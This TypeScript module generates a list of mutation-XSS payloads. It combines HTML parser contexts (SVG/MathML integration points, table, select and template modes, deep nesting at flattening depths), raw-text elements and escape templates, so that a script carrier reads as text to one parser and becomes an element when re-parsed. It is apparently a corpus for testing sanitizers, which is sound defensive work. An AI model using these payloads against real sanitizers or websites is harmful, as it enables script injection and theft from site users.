import { carrier } from './carrier.ts';

/**
 * What changes how the parser reads what follows: foreign namespaces, their integration points, insertion modes
 * that move or drop elements, and elements that close each other.
 */
const surroundings = [
  '',
  '<svg>',
  '<svg></p>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignObject>',
  '<svg><font color>',
  '<math>',
  '<math></br>',
  '<math><mtext>',
  '<math><mi><svg>',
  '<math><mtext><mglyph>',
  '<math><mtext><malignmark>',
  '<math><mtext><table><mglyph>',
  '<math><mtext><option><x-y><option></option><mglyph><svg><mtext>',
  '<math><mtext><h2><a><h3></a></h3><mglyph><svg><mtext>',
  '<math><annotation-xml>',
  '<math><annotation-xml encoding="text/html">',
  '<math><annotation-xml encoding="application/xhtml+xml">',
  '<math><semantics><annotation-xml><svg>',
  '<form><math><mtext></form><form><mglyph>',
  '<form><math><mtext></form><form><mglyph><svg><mtext>',
  '<table>',
  '<table><tr><td>',
  '<table><caption><svg>',
  '<table><colgroup>',
  '<table><svg><desc>',
  '<select>',
  '<select><option>',
  '<select><template>',
  '<select><button><selectedcontent>',
  '<template>',
  '<template><svg>',
  '<template><tr>',
  '<option><svg>',
  '<noscript>',
  '<button><p>',
  '<a href="/x"><table><a href="/y">',
  '<b><p><b><p>',
  '<p><object><p>',
  '<ruby><rtc>',
  '<frameset>',
  '<head><noscript>',
  '</body></html>',
] as const;

/** What makes the parser read markup as text, with the end that it looks for. */
const texts = [
  ['<style>', '</style>'],
  ['<title>', '</title>'],
  ['<textarea>', '</textarea>'],
  ['<xmp>', '</xmp>'],
  ['<iframe>', '</iframe>'],
  ['<noembed>', '</noembed>'],
  ['<noframes>', '</noframes>'],
  ['<noscript>', '</noscript>'],
  ['<script>', '</script>'],
  ['<plaintext>', '</plaintext>'],
  ['<listing>', '</listing>'],
  ['<!--', '-->'],
  ['<!', '>'],
  ['<?x ', '?>'],
  ['</ ', '>'],
  ['<![CDATA[', ']]>'],
] as const;

/** Script that is text to one parser and an element to the next. */
const escapes: readonly ((start: string, end: string) => string)[] = [
  (start, end) => `${start}${carrier}${end}`,
  (start, end) => `${start}${end}${carrier}`,
  (start, end) => `${start}<a title="${end}${carrier}">`,
  (start, end) => `${start}<!--${end}<i title="--&gt;${carrier.replace('<', '&lt;')}">`,
];

/** 128 and 512 are depths at which parsers have flattened what is deeper. */
const depths = [126, 128, 160, 190, 508, 511, 512, 600].flatMap((depth) => [
  `${'<div>'.repeat(depth)}<svg><style><a title="</style>${carrier}">`,
  `${'<b>'.repeat(depth)}<math><mi><style><a title="</style>${carrier}">`,
  `${'<form>'.repeat(depth)}<math><mtext><form><mglyph><style></math>${carrier}`,
  `${'<svg><desc>'.repeat(depth / 2)}<title><a title="</title>${carrier}">`,
]);

/** Markup that a second parser reads otherwise than the first: mutation XSS. */
export const nestings = [
  ...surroundings.flatMap((before) =>
    texts.flatMap(([start, end]) => escapes.map((escape) => before + escape(start, end))),
  ),
  ...depths,
];
